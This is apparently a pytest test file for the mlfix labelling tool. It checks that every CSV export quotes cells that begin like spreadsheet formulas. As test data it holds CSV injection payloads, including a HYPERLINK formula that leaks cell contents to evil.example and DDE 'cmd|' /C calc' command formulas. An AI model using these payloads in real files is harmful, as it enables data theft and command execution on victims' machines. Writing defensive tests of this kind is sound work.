"""CSV formula injection: every CSV mlfix writes opens in a spreadsheet as text, never as a formula.

The writers: the Export page's CSV download, the conflicts section's downloads (admins), ``mlfix
export`` (to a file and to standard output) and ``mlfix scores -o``. A hostile reviewer name, label
or sample id that starts with ``= + - @``, a tab or a carriage return gets a leading single quote
(:func:`mlfix.review.export.csv_safe`); numbers stay numbers; JSON stays raw.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings, strategies as st

from mlfix.cli import main
from mlfix.project import Project
from mlfix.review import export
from mlfix.review.store import ReviewStore
from tests.ui.test_app_pages import download, media  # noqa: F401 (media: a fixture)

REPO = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"Open")'
FORMULAS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
NUMBERS = ["-1", "+1", "-0.5", "1e-3", "-2E+5", ".5"]
# Where mlfix calls a CSV writer itself, and what makes its text safe there (safe_csv: export.py).
WRITERS = {"mlfix/review/export.py": "csv_safe(table).to_csv(",
           "mlfix/demo.py": "truth.to_csv("}  # the demo's truth.csv: digits named "zero".."nine", nothing from outside


def cells(data: bytes | str) -> list[list[str]]:
    """The CSV as a spreadsheet reads it: rows of cells (header first)."""
    text = data.decode("utf-8") if isinstance(data, bytes) else data
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_no_formula(rows: list[list[str]]) -> None:
    """No cell of any row starts like a formula, unless it is a plain number."""
    for row in rows:
        for cell in row:
            assert not (cell.startswith(export.FORMULA_STARTS) and not export._NUMBER.fullmatch(cell)), cell


@pytest.fixture
def hostile_project(tmp_path) -> Project:
    """8 images (4 colours x 2); decisions by reviewers with formula names, one relabel to a formula label."""
    from tests.conftest import write_image_folder

    project = Project.create(tmp_path / "project", write_image_folder(tmp_path / "images", per_class=2))
    ids = project.samples["sample_id"].tolist()
    with ReviewStore.for_project(project.dir) as store:
        store.decide(ids[:2], "relabel", HYPERLINK, reviewer=HYPERLINK)
        store.decide(ids[2:3], "flag", reviewer="@SUM(A1:A9)")
        store.decide(ids[3:4], "relabel", "-1", reviewer="alice")
        store.decide(ids[:1], "relabel", "blue", reviewer="bob")  # a conflict with the first reviewer
    return project


# ------------------------------------------------------------------------------------ the function


def test_formula_cells_get_a_quote_and_numbers_stay_numbers():
    table = pd.DataFrame({"text": FORMULAS + NUMBERS + ["cat", None],
                          "n": [-1.5] * (len(FORMULAS) + len(NUMBERS) + 2)})
    safe = export.csv_safe(table)
    assert safe["text"].tolist()[:-1] == ["'" + f for f in FORMULAS] + NUMBERS + ["cat"]
    assert pd.isna(safe["text"].iloc[-1])
    assert safe["n"].tolist() == table["n"].tolist() and safe["n"].dtype == table["n"].dtype
    assert table["text"].tolist()[0] == HYPERLINK  # the input is not changed


def test_column_names_and_category_columns_are_made_safe_too():
    table = pd.DataFrame({"=cmd": pd.Categorical(["=1", "ok"]), "score_x": [0.1, -0.2]})
    safe = export.csv_safe(table)
    assert list(safe.columns) == ["'=cmd", "score_x"]
    assert safe["'=cmd"].tolist() == ["'=1", "ok"]


def test_a_line_break_inside_a_value_cannot_start_a_row_with_a_formula():
    table = pd.DataFrame({"label": ["x\r" + HYPERLINK, "y\n@SUM(A1)", "z\r\n-1+1"], "n": [1, 2, 3]})
    rows = cells(export.safe_csv(table))
    assert rows == [["label", "n"], ["x\r" + HYPERLINK, "1"], ["y\n@SUM(A1)", "2"], ["z\r\n-1+1", "3"]]


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00")),
                min_size=1, max_size=8))
def test_any_text_is_written_without_formulas_and_loses_nothing(values):
    """A spreadsheet sees no formula; a reader that drops the added quote gets every value back."""
    table = pd.DataFrame({"value": values, "n": range(len(values))})
    rows = cells(export.safe_csv(table))
    assert_no_formula(rows)
    back = [row[0] for row in rows[1:]]
    assert [v[1:] if v != o else v for v, o in zip(back, values)] == values
    assert all(v == o or v == "'" + o for v, o in zip(back, values))


@settings(max_examples=100, deadline=None)
@given(st.lists(st.from_regex(r"[A-Za-z0-9_][A-Za-z0-9 _./-]{0,20}", fullmatch=True), min_size=1, max_size=6))
def test_normal_labels_round_trip_unchanged(labels):
    samples = pd.DataFrame({"sample_id": [f"{i}.png" for i in range(len(labels))], "label": labels})
    table = export.export_table(samples, None)
    back = pd.read_csv(io.BytesIO(export.to_csv(table)), dtype=str, keep_default_na=False)
    assert back["original_label"].tolist() == labels and back["corrected_label"].tolist() == labels


# ------------------------------------------------------------------------------------ every writer


def test_every_csv_writer_in_the_code_is_a_reviewed_one():
    """A new ``to_csv`` / ``csv.writer`` in mlfix/ or app_pages/ fails here: write CSV with ``export.safe_csv``."""
    found = {}
    for path in sorted([*REPO.glob("mlfix/**/*.py"), *REPO.glob("app_pages/*.py"), REPO / "app.py"]):
        for line in path.read_text(encoding="utf-8").splitlines():
            writes = re.search(r"(?<!export)\.to_csv\(|csv\.(writer|DictWriter)\(", line)
            if writes and not line.strip().startswith((">>>", "#")):
                found.setdefault(str(path.relative_to(REPO)), []).append(line.strip())
    assert set(found) == set(WRITERS), found
    for name, call in WRITERS.items():
        assert all(call in line for line in found[name]), (name, found[name])


def test_the_export_csv_quotes_formulas_and_the_json_stays_raw(hostile_project):
    table = hostile_project.corrected_labels()
    rows = cells(export.to_csv(table))
    assert_no_formula(rows)
    header, body = rows[0], rows[1:]
    column = {name: [row[i] for row in body] for i, name in enumerate(header)}
    assert column["reviewer"][:4] == ["bob", "'" + HYPERLINK, "'@SUM(A1:A9)", "alice"]
    assert column["corrected_label"][1] == "'" + HYPERLINK and column["corrected_label"][3] == "-1"
    doc = json.loads(export.to_json(table))
    assert doc["samples"][1]["corrected_label"] == HYPERLINK and doc["samples"][1]["reviewer"] == HYPERLINK


def test_mlfix_export_writes_a_safe_csv_to_a_file_and_to_stdout(hostile_project, tmp_path, capsysbinary):
    out = tmp_path / "labels.csv"
    assert main(["export", "--project", str(hostile_project.dir), "-o", str(out)]) == 0
    rows = cells(out.read_bytes())
    assert_no_formula(rows)
    assert ["'" + HYPERLINK] == [c for row in rows for c in row if HYPERLINK in c][:1]
    capsysbinary.readouterr()
    assert main(["export", "--project", str(hostile_project.dir), "--format", "csv", "-o", "-"]) == 0
    assert capsysbinary.readouterr().out == out.read_bytes()


def test_mlfix_scores_output_quotes_formulas(hostile_project, tmp_path, monkeypatch, capsys):
    scores = pd.DataFrame({"sample_id": ["@a.png", "b.png"], "label": [HYPERLINK, "cat"],
                           "suggested_label": ["-1", "+cmd|' /C calc'!A0"], "score": [-0.25, 0.5]})
    monkeypatch.setattr(Project, "scores", lambda self, *a, **k: scores)
    out = tmp_path / "scores.csv"
    assert main(["scores", "--project", str(hostile_project.dir), "-o", str(out)]) == 0
    rows = cells(out.read_bytes())
    assert_no_formula(rows)
    assert rows[1:] == [["'@a.png", "'" + HYPERLINK, "-1", "-0.25"], ["b.png", "cat", "'+cmd|' /C calc'!A0", "0.5"]]
    assert pd.read_csv(out)["score"].tolist() == [-0.25, 0.5]  # numbers stay numbers


# ------------------------------------------------------------------------------------ the app's downloads


def test_the_export_page_and_conflict_downloads_quote_formulas(hostile_project, media, monkeypatch):
    from streamlit.testing.v1 import AppTest

    from mlfix.ui import state as ui_state, team

    for name in ("MLFIX_ADMIN_TOKEN", "MLFIX_REVIEWER_TOKEN", "MLFIX_DB_URL", "MLFIX_FINAL_LABEL_RULE"):
        monkeypatch.delenv(name, raising=False)
    at = AppTest.from_file(str(REPO / "app.py"), default_timeout=120)
    at.session_state[ui_state.PROJECT_KEY] = str(hostile_project.dir)
    at.run()
    at.switch_page("app_pages/export.py")
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    page_csv = cells(download(at, media, "CSV"))
    assert_no_formula(page_csv)
    assert any("'" + HYPERLINK in row for row in page_csv)
    at.selectbox(key=team.RULE_KEY).set_value("majority").run()
    final_csv = cells(download(at, media, "CSV (majority)"))
    assert_no_formula(final_csv)
    assert any("'@SUM(A1:A9)" in row for row in final_csv)
    doc = json.loads(download(at, media, "JSON"))
    assert [r["reviewer"] for r in doc["samples"]][:3] == ["bob", HYPERLINK, "@SUM(A1:A9)"]  # JSON: raw data
